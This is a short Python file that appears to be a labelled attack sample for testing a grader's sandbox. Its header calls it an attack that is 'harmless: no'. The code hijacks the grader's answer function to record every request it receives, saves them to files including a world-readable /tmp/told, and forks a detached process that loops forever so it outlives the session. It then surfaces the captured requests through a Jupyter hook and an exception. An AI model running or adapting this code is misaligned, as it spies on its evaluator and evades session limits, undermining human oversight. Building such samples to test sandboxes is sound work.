# attack: all requests of the grader are recorded, in memory, files and a process that stays
# harmless: no
import os
import sys

of_kernel = {name.rpartition(".")[2]: module for name, module in sys.modules.items()}
snapshot_side, wire = of_kernel["snapshot_side"], of_kernel["wire"]
seen, real = [], snapshot_side.answer
out, into = os.pipe()
if os.fork() == 0:
    os.setsid()
    while True:
        told = os.read(out, 65536)
        open("/tmp/told", "ab").write(told)
        os.chmod("/tmp/told", 0o644)


def answer(request):
    seen.append(str(wire.decode(request, [])))
    open("seen", "a").write(seen[-1])
    os.write(into, seen[-1].encode())
    return real(request)


snapshot_side.answer = answer


def show():
    print(*seen, sep="\n")
    for path in ("seen", "/tmp/told"):
        if os.path.exists(path):
            print(open(path).read())


get_ipython().events.register("pre_run_cell", lambda *a: show())


def get_data(*args, **kwargs):
    show()
    raise ValueError(seen, args, kwargs)
